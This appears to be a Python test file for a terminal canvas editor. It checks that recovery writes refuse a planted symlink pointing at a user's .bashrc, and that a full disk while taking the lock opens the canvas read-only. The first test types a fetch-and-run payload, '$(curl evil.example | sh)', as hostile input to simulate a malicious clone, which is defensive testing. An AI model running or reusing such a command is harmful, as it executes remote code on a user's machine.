"""The editor with planted files beside the canvas and a disk that refuses the lock: the user is told
in one line, nothing is written through a link, and the canvas opens (read-only when unlocked)."""

from __future__ import annotations

import asyncio
import errno
import os
from pathlib import Path
from typing import Any

import pytest
from tests.observe import Notices
from tests.tui.helpers import make_app
from tests.waiting import wait_until

from canvas_tui import recovery
from canvas_tui.instance import lock_path


@pytest.fixture
def bashrc(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    target = home / ".bashrc"
    target.write_text("alias ll='ls -l'\n", encoding="utf-8")
    return target


async def test_typing_never_writes_through_a_planted_recovery_link(example_copy: Path, bashrc: Path) -> None:
    """Point 1: a clone holds `.canvas.toml.recovery -> ../home/.bashrc`; the user opens, types, quits."""
    planted = recovery.recovery_path(example_copy)
    planted.symlink_to(os.path.relpath(bashrc, planted.parent))
    notices = Notices()
    app = make_app(example_copy)
    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
        await wait_until(
            lambda: any(f"{planted}: is a symbolic link" in m for m in notices.messages),
            "the planted link is named as the canvas opens",
        )
        await pilot.press("e", *"$(curl evil.example | sh)")
        failed = f"Could not write the recovery file {planted}: is a symbolic link"
        await wait_until(
            lambda: any(m.startswith(failed) for m in notices.messages), "the recovery write is refused"
        )
        await pilot.press(*" more words")
        record = app.session.take_recovery()
        assert record is not None
        # What the recovery timer does after the next pause in typing, here and now.
        await asyncio.to_thread(app.saver._write_recovery, record)
        await pilot.pause()
        assert [m for m in notices.messages if m.startswith(failed)] == [
            f"{failed}; canvas-tui does not follow links it did not create"
        ], "said once, in one line"
        await pilot.press("escape", "q", "d")  # quit, discard
        await pilot.pause()
    assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
    assert planted.is_symlink(), "the clean exit leaves the link (and said so as the canvas opened)"


async def test_a_full_disk_when_taking_the_lock_opens_read_only(
    example_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Point 5: was a traceback, exit 1 and a 0-byte lock left behind."""
    lock = lock_path(example_copy)
    real_write = os.write

    def full_for_the_lock(fd: int, data: Any) -> int:
        if os.readlink(f"/proc/self/fd/{fd}") == str(lock):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    if not os.path.isdir("/proc/self/fd"):
        pytest.skip("needs /proc to tell the lock's writes from the terminal's")
    monkeypatch.setattr(os, "write", full_for_the_lock)
    notices = Notices()
    app = make_app(example_copy)
    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
        await wait_until(lambda: app.session.read_only, "the canvas is read-only")
        await wait_until(
            lambda: any("could not be locked" in m and "opened read-only" in m for m in notices.messages),
            "the user is told why",
        )
        assert not os.path.lexists(lock)
        await pilot.press("q")
        await pilot.pause()
    assert not os.path.lexists(lock)
